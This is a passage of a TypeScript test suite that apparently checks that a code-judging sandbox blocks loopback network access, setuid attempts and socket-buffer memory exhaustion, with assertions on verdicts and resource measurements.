      const s = net.createServer((socket) => {
        counts[kind]++;
        socket.destroy();
      });
      closers.push(() => s.close());
      return s;
    };
    const tcp = server('tcp');
    await listen(tcp, 0, '127.0.0.1');
    const unixPath = join(host, 'judge.sock');
    await listen(server('unix'), unixPath);
    const abstract = `\0kata-outside-net-${token()}`;
    await listen(server('abstract'), abstract);
    const udp = dgram.createSocket('udp4');
    udp.on('message', () => counts.udp++);
    closers.push(() => udp.close());
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const target = { port: (tcp.address() as net.AddressInfo).port, udpPort: udp.address().port, unixPath, abstract };

    // Controls: the same source under plain Node reaches every server, also with the network
    // locked in JavaScript as the harness does.
    for (const locked of [false, true]) {
      const control = await runUnsandboxed('loopback', loopbackSource(target), { locked });
      expect(control.code, control.output).toBe(0);
      await sleep(100);
      for (const [kind, count] of Object.entries(counts)) expect(count, `the control (locked: ${locked}) did not reach the ${kind} server`).toBeGreaterThan(0);
      Object.assign(counts, { tcp: 0, unix: 0, abstract: 0, udp: 0 });
    }

    await judgeSource('loopback', loopbackSource(target));
    await sleep(300);
    expect(counts).toEqual({ tcp: 0, unix: 0, abstract: 0, udp: 0 });
  });

  it('cannot change its user or group id (AC means every attempt was refused)', async () => {
    const { judgment, watched } = await judgeSource('setuid', SETUID_SOURCE);
    expect(judgment.verdict, allMessages(judgment).join('\n')).toBe('AC');
    // From outside: no process of the sandbox ever ran with a root user or group id.
    expect([...watched.ids].filter((id) => id === 0), `ids seen: ${[...watched.ids].join(', ')}`).toEqual([]);
  });

  it('cannot hold unbounded kernel memory in socket buffers', async () => {
    expect(ADD.meta.limits.memoryMb * MB).toBeLessThan(SOCKET_MEMORY_TARGET);
    const startedAt = performance.now();
    const tcpBefore = tcpMemoryBytes();
    const { judgment, watched } = await judgeSource('socket-memory', SOCKET_MEMORY_SOURCE);
    const seen = `verdict ${judgment.verdict}; at most ${watched.maxSockets} sockets open in one sandbox process; machine-wide TCP buffer memory grew by ${Math.round(watched.tcpGrowthBytes / MB)} MB; the judge's RSS by ${Math.round(watched.judgeRssGrowthBytes / MB)} MB`;
    console.info(`socket-memory: ${seen}`);
    expect(performance.now() - startedAt).toBeLessThan(10_000);
    if (judgment.verdict === 'AC') {
      // Not stopped: then the number of sockets it could open must have been bounded ...
      expect(watched.maxSockets, seen).toBeLessThanOrEqual(128);
    }
    // ... and the judge itself must not have paid for it.
    expect(watched.judgeRssGrowthBytes, seen).toBeLessThan(200 * MB);
    // Beyond the brief's bound: the kernel memory the attack aimed at (measured machine-wide) was not reached.
    expect(watched.tcpGrowthBytes, seen).toBeLessThan(SOCKET_MEMORY_TARGET);
    // Nothing lingers once the sandbox is gone: its buffers are given back.
    let after = tcpMemoryBytes() - tcpBefore;
    for (let i = 0; i < 40 && after > 64 * MB; i++) {
      await sleep(50);
      after = tcpMemoryBytes() - tcpBefore;
    }
    expect(after, `TCP buffer memory left after the judgment: ${Math.round(after / MB)} MB`).toBeLessThan(64 * MB);
  });
});

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = net.createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as net.AddressInfo;
      server.close(() => resolve(port));
    });
  });
}
